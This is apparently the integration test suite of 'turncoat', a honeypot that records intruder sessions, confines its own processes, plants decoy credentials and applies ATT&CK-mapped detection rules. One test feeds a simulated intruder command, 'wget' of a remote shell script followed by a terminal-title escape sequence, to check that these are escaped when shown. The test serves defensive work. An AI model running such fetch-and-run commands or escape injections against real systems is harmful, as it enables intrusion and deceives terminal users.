//! The program as its operator meets it.

mod common;

use common::{PROGRAM, Run, read_line, say, start, start_by, start_on, until};
use std::io::{Read, Write};
use std::path::Path;
use std::process::{Command, Stdio};

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn a_visit_can_be_listed_shown_replayed_exported_and_forgotten() {
    let mut run = start("visit", &[]);
    let mut talk = run.connect().unwrap();
    assert_eq!(read_line(&mut talk).unwrap(), "hello");
    say(&mut talk, "wget http://x.example/a.sh; \u{1b}]0;owned\u{7}").unwrap();
    drop(talk);
    until("the visit is over", || {
        text(&run.command(&["sessions"]).stdout).contains(" client")
    });
    let shown = run.command(&["show", "last"]);
    assert!(
        text(&shown.stdout).contains("wget http://x.example/a.sh; \\x1b]0;owned\\x07"),
        "{}",
        text(&shown.stdout)
    );
    for args in [
        &["sessions"][..],
        &["show", "last"],
        &["events"],
        &["status"],
        &["replay", "last", "--speed", "0"],
    ] {
        let out = run.command(args);
        assert!(out.status.success(), "{args:?}: {}", text(&out.stderr));
        assert!(
            !out.stdout.contains(&0x1b) && !out.stdout.contains(&7),
            "{args:?} let an escape through"
        );
    }
    assert!(
        text(&run.command(&["replay", "last", "--speed", "0"]).stdout).contains("wget http://x.example/a.sh")
    );
    let found = run.command(&["events", "--text", "x.example", "--json"]);
    let event: turncoat_event::Event = serde_json::from_slice(&found.stdout).unwrap();
    assert_eq!(event.kind.name(), "command.input");
    let cast = text(
        &run.command(&["export", "--format", "asciicast", "--session", "last"])
            .stdout,
    );
    assert!(
        cast.lines()
            .all(|l| serde_json::from_str::<serde_json::Value>(l).is_ok())
            && cast.lines().count() >= 2,
        "{cast}"
    );
    let copy = run.dir.join("copy");
    assert!(run.command(&["backup", copy.to_str().unwrap()]).status.success());
    let gone = run.command(&["forget", "127.0.0.0/8"]);
    assert_eq!(text(&gone.stdout), "1 sessions of 127.0.0.0/8 forgotten\n");
    assert_eq!(text(&run.command(&["sessions"]).stdout), "no sessions\n");
    assert_eq!(run.stop(), Some(0));
    let back = run.dir.join("back");
    let restored = Command::new(PROGRAM)
        .args([
            "restore",
            copy.to_str().unwrap(),
            "--data",
            back.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(restored.status.success(), "{}", text(&restored.stderr));
    let listed = Command::new(PROGRAM)
        .args(["sessions", "--json", "--data", back.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(text(&listed.stdout).lines().count(), 1);
}

#[test]
fn mistakes_are_one_line_each_and_exit_1() {
    let dir = std::env::temp_dir().join(format!("turncoat-mistakes-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("turncoat.toml");
    std::fs::write(&file, "[record]\nmaxsize = 1\n[sssh]\n").unwrap();
    let run = |args: &[&str]| {
        let out = Command::new(PROGRAM)
            .env_clear()
            .args(["--data", dir.to_str().unwrap()])
            .args(args)
            .output()
            .unwrap();
        (out.status.code(), text(&out.stderr))
    };
    let expected = format!(
        "turncoat: {0}:2: [record] has no key maxsize; did you mean max_size?\nturncoat: {0}:3: there is no section [sssh]; did you mean [ssh]?\n",
        file.display()
    );
    assert_eq!(run(&["check"]), (Some(1), expected.clone()));
    assert_eq!(run(&["run"]), (Some(1), expected));
    assert_eq!(run(&["sessions"]).1.lines().count(), 1);
    assert_eq!(
        run(&["status"]),
        (Some(1), format!("turncoat: not running on {}\n", dir.display()))
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_second_program_on_the_same_directory_is_refused() {
    let run = start("twice", &[]);
    let second = Command::new(PROGRAM)
        .env_clear()
        .env("TURNCOAT_SSH_LISTEN", "")
        .args(["--data", run.dir.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(second.status.code(), Some(1));
    assert!(
        text(&second.stderr).contains(&format!("already runs on {}", run.dir.display())),
        "{}",
        text(&second.stderr)
    );
    assert!(run.status().is_some(), "the first goes on");
}

#[test]
fn every_thread_of_every_process_is_confined() {
    let run = start("confined", &[]);
    let mut talk = run.connect().unwrap();
    read_line(&mut talk).unwrap();
    talk.write_all(b"x\n").unwrap();
    let processes = run.processes();
    assert_eq!(
        processes.iter().map(|(r, _)| r.as_str()).collect::<Vec<_>>(),
        ["front", "out", "record"]
    );
    for (role, pid) in processes {
        for status in statuses(pid) {
            assert!(
                status.contains("Seccomp:\t2") && status.contains("NoNewPrivs:\t1"),
                "a thread of {role} is not confined"
            );
            let powerless = ["CapPrm", "CapEff", "CapAmb"]
                .iter()
                .all(|set| status.contains(&format!("{set}:\t0000000000000000")));
            assert!(powerless || role != "front", "a thread of front has capabilities");
        }
        // Nothing that an outsider reaches holds a file: sockets, and what the runtime polls with.
        if role == "front" {
            for fd in std::fs::read_dir(format!("/proc/{pid}/fd")).unwrap() {
                let target = std::fs::read_link(fd.unwrap().path()).unwrap();
                let target = target.to_string_lossy();
                let fine = ["socket:", "pipe:", "anon_inode:", "/dev/null"]
                    .iter()
                    .any(|p| target.starts_with(p));
                assert!(fine, "front holds {target}");
            }
        }
    }
}

#[test]
fn outputs_lose_and_double_nothing_over_kills() {
    let dir = std::env::temp_dir().join(format!("turncoat-lines-out-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("events.json");
    let mut run = start(
        "outputs",
        &[("TURNCOAT_OUTPUT_JSONL_PATH", path.to_str().unwrap())],
    );
    for round in 0..6 {
        let mut talk = run.connect().unwrap();
        read_line(&mut talk).unwrap();
        for n in 0..50 {
            say(&mut talk, &format!("line {round} {n}")).unwrap();
        }
        run.signal(run.pid("out").unwrap(), 9);
        drop(talk);
        until("out is back", || {
            run.pid("out").is_some() && run.status().is_some()
        });
    }
    assert_eq!(run.stop(), Some(0));
    let recorded: Vec<u64> = run.events().iter().map(|e| e.seq).collect();
    let written: Vec<u64> = std::fs::read_to_string(&path)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<turncoat_event::Event>(l).unwrap().seq)
        .collect();
    assert_eq!(written, recorded);
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn completions_and_man_page_come_from_the_declaration() {
    for args in [
        &["completions", "bash"][..],
        &["completions", "zsh"],
        &["man"],
        &["--help"],
        &["events", "--help"],
    ] {
        let out = Command::new(PROGRAM).args(args).output().unwrap();
        assert!(out.status.success() && out.stdout.len() > 500, "{args:?}");
    }
}

#[test]
fn a_changed_configuration_is_taken_over_as_far_as_it_can_be() {
    let dir = std::env::temp_dir().join(format!("turncoat-reload-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let log = dir.join("log");
    let mut command = Command::new("sh");
    command.args(["-c", &format!("exec {PROGRAM} 2>{}", log.display())]);
    let run = start_by(command, dir.clone(), &[]);
    let reload = |file: &str, expected: &[&str]| {
        let before = std::fs::read_to_string(&log).unwrap().len();
        std::fs::write(dir.join("turncoat.toml"), file).unwrap();
        run.signal(run.child.id() as i32, 1);
        let mut said = String::new();
        until("the reload is told", || {
            said = std::fs::read_to_string(&log).unwrap().split_off(before);
            said.lines().count() >= expected.len()
        });
        assert_eq!(said.lines().collect::<Vec<_>>(), expected);
    };
    // The file was not there at start.
    let place = dir.join("turncoat.toml");
    reload(
        "[limits]\nevents_per_second = 50\n[world]\nmost = 9\n[heartbeat]\nevery = \"1s\"\n",
        &[
            "turncoat run: taken over: limits.events_per_second, heartbeat.every",
            "turncoat run: changed, but wants a restart: world.most",
        ],
    );
    until("the new heartbeat is heard", || {
        text(&run.command(&["events", "--kind", "heartbeat"]).stdout).contains("uptime")
    });
    let wrong = format!(
        "turncoat run: {}:1: there is no section [limit]; did you mean [limits]?",
        place.display()
    );
    reload(
        "[limit]\n",
        &[&wrong, "turncoat run: the configuration stays as it was"],
    );
}

#[test]
fn everything_that_lists_does_so_for_programs_too() {
    let run = start("json", &[]);
    let mut talk = run.connect().unwrap();
    read_line(&mut talk).unwrap();
    say(&mut talk, "id").unwrap();
    drop(talk);
    until("the visit is over", || {
        text(&run.command(&["sessions"]).stdout).contains(" client")
    });
    let planted = run.command(&[
        "plant",
        "credential",
        "--for",
        "x",
        "--to",
        "127.0.0.1:1",
        "--json",
    ]);
    assert!(planted.status.success(), "{}", text(&planted.stderr));
    for (args, least) in [
        (&["sessions", "--json"][..], 1),
        (&["show", "last", "--json"], 3),
        (&["events", "--json"], 3),
        (&["status", "--json"], 1),
        (&["campaigns", "--json"], 0),
        (&["plant", "ls", "--json"], 1),
        (&["image", "ls", "--json"], 0),
        (&["export", "--format", "jsonl"], 3),
    ] {
        let out = run.command(args);
        assert!(out.status.success(), "{args:?}: {}", text(&out.stderr));
        let said = text(&out.stdout);
        assert!(said.lines().count() >= least, "{args:?}: {said}");
        for line in said.lines() {
            let value: serde_json::Value =
                serde_json::from_str(line).unwrap_or_else(|e| panic!("{args:?}: {e}: {line}"));
            assert!(value.is_object(), "{args:?}: {line}");
        }
    }
}

#[test]
fn the_unit_and_the_package_are_of_this_program() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let unit = std::fs::read_to_string(root.join("packaging/turncoat.service")).unwrap();
    let value = |key: &str| {
        unit.lines()
            .find_map(|l| l.strip_prefix(key)?.strip_prefix('='))
            .unwrap_or_else(|| panic!("the unit has no {key}"))
    };
    // Its line starts the program: with another binary and directory, to the same words.
    let words: Vec<&str> = value("ExecStart").split(' ').collect();
    let ["/usr/bin/turncoat", "--data", state, "run"] = words[..] else {
        panic!("{words:?}");
    };
    assert_eq!(state, format!("/var/lib/{}", value("StateDirectory")));
    let dir = std::env::temp_dir().join(format!("turncoat-unit-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let mut command = Command::new(PROGRAM);
    command.args(["--data", dir.to_str().unwrap(), "run"]);
    let mut run = start_by(command, dir.clone(), &[]);
    assert!(run.status().is_some());
    assert_eq!(run.stop(), Some(0), "SIGTERM, as systemd stops it");
    // What the package says it holds is there.
    let manifest: toml_edit::DocumentMut = std::fs::read_to_string(root.join("crates/turncoat/Cargo.toml"))
        .unwrap()
        .parse()
        .unwrap();
    let assets = manifest["package"]["metadata"]["deb"]["assets"]
        .as_array()
        .unwrap();
    for asset in assets {
        let from = asset.as_array().unwrap().get(0).unwrap().as_str().unwrap();
        let Some(file) = from
            .strip_prefix("../../")
            .filter(|f| !f.starts_with("target/") && !f.contains('*'))
        else {
            continue;
        };
        assert!(root.join(file).exists(), "{file}");
    }
    let script = Command::new("sh")
        .args(["-n", "packaging/build"])
        .current_dir(&root)
        .status()
        .unwrap();
    assert!(script.success());
    let Ok(o) = Command::new("systemd-analyze").arg("--version").output() else {
        eprintln!("systemd-analyze (package systemd) is not here: the unit was not verified by it");
        return;
    };
    assert!(o.status.success());
    // The binary is where this build put it.
    let ours = unit.replace("/usr/bin/turncoat", PROGRAM);
    let file = std::env::temp_dir().join(format!("turncoat-{}.service", std::process::id()));
    std::fs::write(&file, ours).unwrap();
    let o = Command::new("systemd-analyze")
        .args(["verify", "--man=no", file.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(
        o.status.success() && !text(&o.stderr).contains("turncoat-"),
        "{}",
        text(&o.stderr)
    );
    std::fs::remove_file(file).unwrap();
}

/// The status of each thread of a process.
fn statuses(pid: i32) -> Vec<String> {
    let mut all = Vec::new();
    for task in std::fs::read_dir(format!("/proc/{pid}/task")).unwrap() {
        match std::fs::read_to_string(task.unwrap().path().join("status")) {
            Ok(status) => all.push(status),
            // It has ended meanwhile.
            Err(e) if e.kind() == std::io::ErrorKind::NotFound || e.raw_os_error() == Some(3) => {}
            Err(e) => panic!("process {pid}: {e}"),
        }
    }
    assert!(!all.is_empty(), "process {pid} is gone");
    all
}

/// What of its privileges a process has left, by thread.
fn privileges(pid: i32) -> Vec<String> {
    let mut all = Vec::new();
    for status in statuses(pid) {
        let names = [
            "Uid:",
            "Gid:",
            "Groups:",
            "CapInh:",
            "CapPrm:",
            "CapEff:",
            "CapAmb:",
            "NoNewPrivs:",
        ];
        for line in status.lines().filter(|l| names.iter().any(|n| l.starts_with(n))) {
            all.push(line.split_whitespace().collect::<Vec<_>>().join(" "));
        }
    }
    all.sort();
    all.dedup();
    all
}

/// Starts the program in a network namespace of its own, where only loopback is.
fn start_in_a_network(name: &str, settings: &[(&str, &str)]) -> Run {
    let dir = std::env::temp_dir().join(format!("turncoat-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let mut command = Command::new("unshare");
    let script = format!("ip link set lo up && exec {PROGRAM} run");
    command.args(["--net", "sh", "-c", &script]);
    start_by(command, dir, settings)
}

#[test]
fn low_ports_are_bound_and_then_privileges_are_gone_for_good() {
    if !rustix::process::geteuid().is_root() {
        eprintln!("skipped: only root can bind low ports and become somebody else");
        return;
    }
    let settings = [
        ("TURNCOAT_ECHO_LISTEN", "127.0.0.1:22"),
        ("TURNCOAT_SENSOR_USER", "nobody"),
    ];
    let mut run = start_in_a_network("low", &settings);
    assert_eq!(run.echo, "127.0.0.1:22");
    let greeted = Command::new("nsenter")
        .args([&format!("--net=/proc/{}/ns/net", run.child.id()), "bash", "-c"])
        .arg("exec 3<>/dev/tcp/127.0.0.1/22; read -r line <&3; echo $line")
        .output()
        .expect("nsenter (package util-linux) is needed");
    assert_eq!(text(&greeted.stdout), "hello\n", "{}", text(&greeted.stderr));
    let zero = "0000000000000000";
    let nobody = [
        &format!("CapAmb: {zero}"),
        &format!("CapEff: {zero}"),
        &format!("CapInh: {zero}"),
        &format!("CapPrm: {zero}"),
        "Gid: 65534 65534 65534 65534",
        "Groups: 65534",
        "NoNewPrivs: 1",
        "Uid: 65534 65534 65534 65534",
    ];
    let mut all = run.processes();
    assert_eq!(all.len(), 3);
    all.push(("run".into(), run.child.id() as i32));
    for (role, pid) in &all {
        assert_eq!(privileges(*pid), nobody, "{role}");
    }
    // What is started anew has no more than what died, and listens on the same port.
    run.signal(run.pid("front").unwrap(), 9);
    until("front is back", || {
        run.status().is_some_and(|s| s["processes"]["restarts"] == 1) && run.pid("front").is_some()
    });
    assert_eq!(privileges(run.pid("front").unwrap()), nobody);
    assert_eq!(run.stop(), Some(0));
}

#[test]
fn rules_for_techniques_are_tried_before_they_are_used() {
    let dir = std::env::temp_dir().join(format!("turncoat-rules-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("rules")).unwrap();
    let file = dir.join("rules/own.toml");
    let rule = |shape: &str| {
        format!(
            "[[rule]]\nid = \"our-vault\"\ntechnique = \"T1555\"\nname = \"Credentials from Password Stores\"\nstage = \"credential-access\"\n\
             event = \"process.exec\"\nwhy = \"the vault's client was run\"\nwhen = [{{ field = \"path\", like = [\"{shape}\"] }}]\n\
             examples = {{ yes = [{{ path = \"/usr/bin/vault\" }}], no = [{{ path = \"/usr/bin/vim\" }}] }}\n"
        )
    };
    let run = |args: &[&str]| {
        let o = Command::new(PROGRAM)
            .env_clear()
            .env("TURNCOAT_DATA", &dir)
            .env("TURNCOAT_INTEL_RULES", dir.join("rules"))
            .args(args)
            .output()
            .unwrap();
        (o.status.success(), text(&o.stdout) + &text(&o.stderr))
    };
    let test = ["campaign", "rules", "test", file.to_str().unwrap()];
    std::fs::write(&file, rule("*/vault")).unwrap();
    let (fine, said) = run(&test);
    assert!(fine && said.starts_with("holds  our-vault"), "{said}");
    assert!(said.contains("1 example, 1 counterexample"), "{said}");
    let (fine, said) = run(&["campaign", "rules", "ls"]);
    let yours: Vec<&str> = said.lines().filter(|l| l.ends_with("(yours)")).collect();
    assert!(
        fine && yours.len() == 1 && yours[0].starts_with("our-vault "),
        "{said}"
    );
    assert!(said.contains("T1098.004"), "those of the program, too: {said}");
    assert!(run(&["check"]).0);
    // One that does not hold is told of, and nothing starts with it.
    std::fs::write(&file, rule("*/v*")).unwrap();
    let (fine, said) = run(&test);
    assert!(
        !fine && said.contains("it matches its counterexample {\"path\":\"/usr/bin/vim\"}"),
        "{said}"
    );
    assert!(said.ends_with("1 of 1 rule fail\n"), "{said}");
    for command in ["check", "run"] {
        let (fine, said) = run(&[command]);
        assert!(
            !fine && said.contains("own.toml: rule our-vault matches"),
            "{said}"
        );
    }
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn the_right_to_block_survives_the_change_of_user_and_is_with_one_process_alone() {
    if !rustix::process::geteuid().is_root() {
        eprintln!("skipped: only root can become somebody else and keep a table of nftables");
        return;
    }
    let settings = [
        ("TURNCOAT_SENSOR_USER", "nobody"),
        ("TURNCOAT_BLOCK_ENABLED", "true"),
        ("TURNCOAT_BLOCK_PROTECT", "[\"192.0.2.0/24\"]"),
    ];
    let mut run = start_in_a_network("table", &settings);
    let table = || {
        let o = Command::new("nsenter")
            .args([
                &format!("--net=/proc/{}/ns/net", run.child.id()),
                "nft",
                "list",
                "tables",
            ])
            .output()
            .expect("nsenter (package util-linux) and nft (package nftables) are needed");
        text(&o.stdout)
    };
    assert_eq!(table(), "table inet turncoat\n");
    let net_admin = "0000000000001000";
    let held = |pid: i32| -> Vec<String> {
        privileges(pid)
            .into_iter()
            .filter(|line| line.starts_with("Cap") && !line.ends_with(" 0000000000000000"))
            .collect()
    };
    let block = [format!("CapEff: {net_admin}"), format!("CapPrm: {net_admin}")];
    assert_eq!(held(run.pid("block").unwrap()), block);
    for role in ["front", "record", "out"] {
        let pid = run.pid(role).unwrap();
        let caps = held(pid);
        assert!(caps.is_empty(), "{role} holds {caps:?}");
        assert!(privileges(pid).contains(&"Uid: 65534 65534 65534 65534".to_owned()));
    }
    // The supervisor holds it for the next one, and cannot use it itself.
    let waiting = [format!("CapPrm: {net_admin}")];
    assert_eq!(held(run.child.id() as i32), waiting);
    let before = run.pid("block").unwrap();
    run.signal(before, 9);
    until("block is back with its table", || {
        run.pid("block")
            .is_some_and(|pid| pid != before && held(pid) == block)
            && table() == "table inet turncoat\n"
    });
    assert_eq!(run.stop(), Some(0));
}

/// An authority of our own and a certificate of it for `localhost`, by the system's `openssl`.
fn certificates(dir: &Path) {
    let script = "
        make() { name=$1; shift; openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout $name.key -subj /CN=$name \"$@\"; }
        make ca -x509 -days 30 -out ca.pem -addext basicConstraints=critical,CA:TRUE
        make other -x509 -days 30 -out other.pem -addext basicConstraints=critical,CA:TRUE
        make server -out server.csr
        echo subjectAltName=DNS:localhost,IP:127.0.0.1 > ext
        openssl x509 -req -in server.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 30 -extfile ext -out server.pem";
    let o = Command::new("sh")
        .args(["-ec", script])
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "openssl (package openssl) is needed: {}",
        text(&o.stderr)
    );
}

/// Takes syslog messages out of a stream: a length in digits, a space, so many bytes (RFC 6587, octet counting).
fn counted(mut bytes: &[u8]) -> Vec<String> {
    let mut all = Vec::new();
    while let Some(space) = bytes.iter().position(|b| *b == b' ') {
        let length: usize = text(&bytes[..space]).parse().expect("a length");
        let Some(message) = bytes.get(space + 1..space + 1 + length) else {
            break;
        };
        all.push(text(message));
        bytes = &bytes[space + 1 + length..];
    }
    all
}

/// What the one output of a run has to complain of.
fn trouble(run: &Run) -> String {
    run.status()
        .and_then(|s| Some(s["outputs"][0]["trouble"].as_str()?.to_owned()))
        .unwrap_or_default()
}

#[test]
fn syslog_goes_over_tls_to_whom_the_operator_trusts_and_to_nobody_else() {
    let dir = std::env::temp_dir().join(format!("turncoat-tls-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    certificates(&dir);
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = free.local_addr().unwrap().port();
    drop(free);
    // A server that is not ours: OpenSSL's, which prints what it is sent.
    let mut server = Command::new("openssl")
        .args(["s_server", "-quiet", "-accept", &format!("127.0.0.1:{port}")])
        .args(["-cert", "server.pem", "-key", "server.key"])
        .current_dir(&dir)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut out = server.stdout.take().unwrap();
    let heard = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let hears = heard.clone();
    std::thread::spawn(move || {
        let mut buffer = [0; 4096];
        while let Ok(n) = out.read(&mut buffer) {
            if n == 0 {
                return;
            }
            hears.lock().unwrap().extend_from_slice(&buffer[..n]);
        }
    });
    let to = format!("tls://localhost:{port}");
    let with = |ca: &str| {
        [
            ("TURNCOAT_OUTPUT_SYSLOG_TO", to.clone()),
            (
                "TURNCOAT_OUTPUT_SYSLOG_CA",
                dir.join(ca).to_str().unwrap().to_owned(),
            ),
        ]
    };
    let as_str = |s: &'_ [(&'static str, String); 2]| s.clone().map(|(k, v)| (k, &*v.leak()));

    // Another authority: nothing is sent, and status says why.
    let mut run = start("tls-run", &as_str(&with("other.pem")));
    until("the server is refused", || trouble(&run).contains("certificate"));
    assert!(heard.lock().unwrap().is_empty());
    run.signal(run.child.id() as i32, 15);
    assert_eq!(run.child.wait().unwrap().code(), Some(0));

    // The right one: everything comes, also what was recorded meanwhile.
    let run = start_on(run.dir.clone(), &as_str(&with("ca.pem")));
    let mut talk = run.connect().unwrap();
    read_line(&mut talk).unwrap();
    say(&mut talk, "over TLS").unwrap();
    until("the line has come", || {
        counted(&heard.lock().unwrap())
            .iter()
            .any(|m| m.contains("over TLS"))
    });
    let messages = counted(&heard.lock().unwrap());
    let events: Vec<serde_json::Value> = messages
        .iter()
        .map(|m| serde_json::from_str(&m[m.find('{').unwrap()..]).unwrap())
        .collect();
    let numbers: Vec<u64> = events.iter().map(|e| e["seq"].as_u64().unwrap()).collect();
    assert_eq!(
        numbers,
        (1..=numbers.len() as u64).collect::<Vec<_>>(),
        "each once, in order"
    );
    assert!(
        messages.iter().all(|m| m.starts_with('<') && m.contains(">1 20")),
        "{messages:?}"
    );
    assert_eq!(trouble(&run), "");
    server.kill().unwrap();
    server.wait().unwrap();
    let _ = std::fs::remove_dir_all(&dir);
}
